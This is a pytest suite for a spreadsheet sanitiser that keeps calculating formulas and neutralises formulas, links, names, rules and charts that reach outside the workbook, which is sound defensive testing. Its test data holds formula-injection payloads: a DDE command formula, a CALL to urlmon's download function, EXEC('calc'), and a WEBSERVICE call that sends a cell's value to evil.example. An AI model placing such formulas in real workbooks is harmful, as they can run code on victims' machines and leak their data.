"""A submitted workbook goes back harmless: sums stay, what acts or reaches out of it does not."""

import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from form_kit import made, written
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.packaging.relationship import Relationship
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula, DataTableFormula
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.table import Table, TableColumn, TableFormula

from engine.forms import Addressee
from engine.model.form_layout import LIST_SHEET
from engine.render.annotated import annotate
from engine.render.formulas import FUNCTIONS, LONGEST, harmless

SHEETS = ("数据", "1月", "12月", "o'k")
SUMS = (
    "=1+1",
    "=-B2*17.5%",
    "=SUM(B2:B9)",
    "=sum($B$2:$B$9, 数据!C1)",
    "=ROUND(AVERAGE(B:B)/1E+3,1)",
    '=IF(B2>=10,"够","=HYPERLINK(x)")',
    "=SUM('1月:12月'!B2)",
    "='o''k'!A1&\"家\"",
    "=IFERROR(VLOOKUP(A1,数据!A1:C9,3,FALSE),#N/A)",
    "=_xlfn.IFS(A1>1,2,TRUE,{1,2;3,4})",
    "=合计+基数",
    '=COUNTIFS(A1:A9,">0",B1:B9,"<>")',
)
REACHING = (
    '=HYPERLINK("http://evil.example","x")',
    '=hyperlink("http://evil.example")',
    '=_xlfn.WEBSERVICE("http://evil.example/"&B2)',
    '=1+IF(TRUE,IMAGE("http://evil.example"))',
    "=cmd|'/c calc'!A1",
    "=cmd|calc!A1",
    '=DDE("cmd","/c calc","x")',
    "=[1]Sheet1!A1",
    "='[1]年 报'!A1",
    "='C:\\数据\\[b.xlsx]Sheet1'!A1",
    "='http://evil.example/b.xlsx'!x",
    "=b.xlsx!x",
    "=没有!A1",
    '=INDIRECT("A1")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"x","y",0,0)',
    '=EXEC("calc")',
    '=RTD("x",,"y")',
    '=IMPORTXML("http://evil.example","//a")',
    "=自定义(1)",
    '=HYPERLINK ("http://evil.example","x")',
    '=TEXT(A1,"0")&INDIRECT \n("D2")',
    '=(HYPERLINK)("http://evil.example")',
    "=_xleta.HYPERLINK",
    "=表1[[#This Row],[数值]]",
    "=A1)",
    '="x',
    "=",
    "=#bad",
    "=" + "1+" * LONGEST + "1",
)


@pytest.mark.parametrize("formula", SUMS)
def test_what_only_computes_is_harmless(formula: str) -> None:
    assert harmless(formula, SHEETS)


@pytest.mark.parametrize("formula", REACHING, ids=lambda f: f[:40])
def test_what_reaches_out_of_the_workbook_is_not(formula: str) -> None:
    assert not harmless(formula, SHEETS)


parts = st.sampled_from(
    [*"=+-@'\"[](){}!#|,;:%$& \n", "A1", "SUM(", "CALL(", "HYPERLINK(", "数据!", "cmd|'/c'!A1", "1E+"]
)


@given(st.lists(parts, max_size=12).map("".join))
@example("=)")
def test_no_text_of_a_formula_breaks_it_or_calls_what_is_not_allowed(text: str) -> None:
    if harmless(f"={text}", SHEETS):
        unquoted = "".join(text.split('"')[::2])
        assert not [sign for sign in ("|", "[", "CALL(", "HYPERLINK(") if sign in unquoted]


def test_the_functions_allowed_name_none_that_acts() -> None:
    acting = {"HYPERLINK", "WEBSERVICE", "INDIRECT", "CALL", "EXEC", "RTD", "DDE", "IMAGE", "REGISTER", "CELL", "INFO"}
    assert not FUNCTIONS & acting


def answered(book: Any, name: str = "a.xlsx") -> tuple[Any, bytes]:
    """The answer to a workbook, opened, and its bytes."""
    out = io.BytesIO()
    book.save(out)
    answer = annotate(out.getvalue(), name, [], "zh")
    return openpyxl.load_workbook(io.BytesIO(answer)), answer


def submitted() -> Any:
    book = openpyxl.Workbook()
    book.active.title = "数据"
    return book


def said(book: Any) -> str:
    return str(book[LIST_SHEET.zh]["A2"].value)


def test_formulas_come_back_as_text_unless_they_only_compute() -> None:
    book = submitted()
    sheet = book["数据"]
    sheet["A1"], sheet["A2"], sheet["A3"] = "=SUM(B1:B2)", REACHING[0], "=[1]Sheet1!A1"
    sheet["B1"] = ArrayFormula("B1:B2", "=SUM(C1:C2*2)")
    sheet["B3"] = ArrayFormula("B3", '=WEBSERVICE("x")')
    sheet["B4"] = DataTableFormula("B4:B5", r1="A1")
    found = answered(book)[0]
    kinds = {c.coordinate: c.data_type for row in found["数据"].iter_rows() for c in row if c.value}
    assert kinds == {"A1": "f", "A2": "s", "A3": "s", "B1": "f", "B3": "s", "B4": "s"}
    assert found["数据"]["A2"].value == REACHING[0]
    assert all(found["数据"][c].quotePrefix for c in ("A2", "A3", "B3", "B4"))
    assert "4 个公式" in said(found)


@pytest.mark.parametrize("text", ["@SUM(A1)", "+1", "=1+1", "-", "＝1", "\t=1"])
def test_texts_that_look_like_a_formula_are_marked_as_text(text: str) -> None:
    book = submitted()
    cell = book["数据"]["A1"]
    cell.value, cell.data_type = text, "s"
    found = answered(book)[0]
    assert (found["数据"]["A1"].value, found["数据"]["A1"].data_type) == (text, "s")
    assert found["数据"]["A1"].quotePrefix
    assert "公式" not in said(found)


def test_a_link_whose_place_is_an_address_is_taken_away() -> None:
    book = submitted()
    sheet = book["数据"]
    for cell, location in (("A1", "http://evil.example/#x"), ("A2", "数据!B2"), ("A3", "'数据'!B2")):
        sheet[cell] = "看"
        sheet[cell].hyperlink = Hyperlink(ref=cell, location=location)
    found = answered(book)[0]["数据"]
    assert [found[cell].hyperlink is None for cell in ("A1", "A2", "A3")] == [True, False, False]


def test_negative_numbers_and_other_texts_stay_as_they_are() -> None:
    book = submitted()
    book["数据"].append([-5, "吴兴区", "1-2"])
    found = answered(book)[0]
    assert [c.value for c in found["数据"][1]] == [-5, "吴兴区", "1-2"]
    assert not [c for c in found["数据"][1] if c.quotePrefix]


def test_links_and_names_stay_only_within_the_workbook() -> None:
    book = submitted()
    sheet = book["数据"]
    sheet["A1"], sheet["A2"] = "外面", "里面"
    sheet["A1"].hyperlink = "http://evil.example"
    sheet["A2"].hyperlink = Hyperlink(ref="A2", location="数据!A1")
    for name, text in (("合计", "数据!$A$1"), ("坏", "[1]Sheet1!$A$1"), ("动", 'EXEC("calc")')):
        book.defined_names.add(DefinedName(name, attr_text=text))
    sheet.defined_names.add(DefinedName("宏", attr_text="数据!$A$1", xlm=True, function=True))
    outside = ExternalLink(externalBook=ExternalBook())
    outside.file_link = Relationship(
        type="externalLinkPath", Target="http://evil.example/b.xlsx", TargetMode="External"
    )
    book._external_links.append(outside)
    found, answer = answered(book)
    assert (found["数据"]["A1"].hyperlink, found["数据"]["A1"].value) == (None, "外面")
    assert found["数据"]["A2"].hyperlink.location == "数据!A1"
    assert (list(found.defined_names), list(found["数据"].defined_names)) == (["合计"], [])
    with zipfile.ZipFile(io.BytesIO(answer)) as archive:
        assert not [name for name in archive.namelist() if b"evil" in archive.read(name)]
    assert "5 处" in said(found)


def test_rules_of_entry_and_format_stay_when_they_only_compute() -> None:
    book = submitted()
    sheet = book["数据"]
    for text in ("AND(A1>0,ISNUMBER(A1))", 'WEBSERVICE("x")>0'):
        sheet.add_data_validation(DataValidation(sqref="A1", type="custom", formula1=text))
        sheet.conditional_formatting.add("A1:A9", FormulaRule([text], fill=PatternFill("solid", "FF0000")))
    sheet.conditional_formatting.add("B1", CellIsRule("greaterThan", ["[1]Sheet1!$A$1"]))
    found = answered(book)[0]
    assert [v.formula1 for v in found["数据"].data_validations.dataValidation] == ["AND(A1>0,ISNUMBER(A1))"]
    rules = [rule.formula for cells in found["数据"].conditional_formatting for rule in cells.rules]
    assert rules == [["AND(A1>0,ISNUMBER(A1))"]]
    assert "3 处" in said(found)


def test_charts_of_other_workbooks_and_the_formulas_of_tables_are_left_out() -> None:
    book = submitted()
    sheet = book["数据"]
    for row in (["甲", "乙"], [1, 2]):
        sheet.append(row)
    for place in ("E1", "E20"):
        chart = BarChart()
        chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=2))
        sheet.add_chart(chart, place)
    sheet._charts[1].series[0].val.numRef.f = "[1]Sheet1!$A$1"
    table = Table(displayName="表1", ref="A1:B2")
    table._initialise_columns()
    for column, name in zip(table.tableColumns, ("甲", "乙"), strict=True):
        column.name, column.calculatedColumnFormula = name, TableFormula(attr_text='WEBSERVICE("x")')
    sheet.add_table(table)
    found = answered(book)[0]
    assert len(found["数据"]._charts) == 1
    columns: list[TableColumn] = found["数据"].tables["表1"].tableColumns
    assert [c.calculatedColumnFormula for c in columns] == [None, None]


def test_a_template_comes_back_as_a_workbook() -> None:
    book = submitted()
    book.template = True
    with zipfile.ZipFile(io.BytesIO(answered(book)[1])) as archive:
        assert b"template" not in archive.read("[Content_Types].xml")


def test_a_form_of_ours_comes_back_with_all_its_rules(tmp_path: Path) -> None:
    form = written(made(tmp_path), Addressee("unit", "市科协"))
    book = openpyxl.load_workbook(io.BytesIO(annotate(form, "a.xlsx", [], "zh")))
    before = openpyxl.load_workbook(io.BytesIO(form))
    for sheet in before.worksheets:
        kept = book[sheet.title].data_validations.dataValidation
        assert len(kept) == len(sheet.data_validations.dataValidation)
    assert "处" not in said(book)
